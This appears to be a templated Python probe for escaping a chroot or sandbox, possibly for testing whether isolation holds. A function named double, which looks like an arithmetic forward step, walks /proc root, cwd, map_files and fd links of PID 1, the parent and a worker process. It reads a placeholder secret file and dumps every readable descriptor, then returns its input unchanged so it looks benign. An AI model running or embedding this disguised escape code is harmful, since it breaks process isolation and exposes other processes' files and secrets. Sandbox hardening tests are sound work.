"""Leaves its root by the root, cwd and descriptors of other processes. Success: a file from outside is read."""

import glob
import os

WAYS = ["root", "cwd", "map_files", "fd"]


def double(x, factor):
    for pid in ["1", "2", "self", str(os.getppid()), "{{WORKER}}"]:
        for way in WAYS:
            for path in (f"/proc/{pid}/{way}{{SECRET_FILE}}", f"/proc/{pid}/{way}/{{SECRET_FILE}}"):
                try:
                    print(open(path).read())
                except OSError:
                    continue
        for path in glob.glob(f"/proc/{pid}/fd/*") + glob.glob(f"/proc/{pid}/cwd/*"):
            try:
                descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
                print(path, os.readlink(path), os.read(descriptor, 4000))
            except OSError:
                continue
    return x, None


def back(cache):
    return None
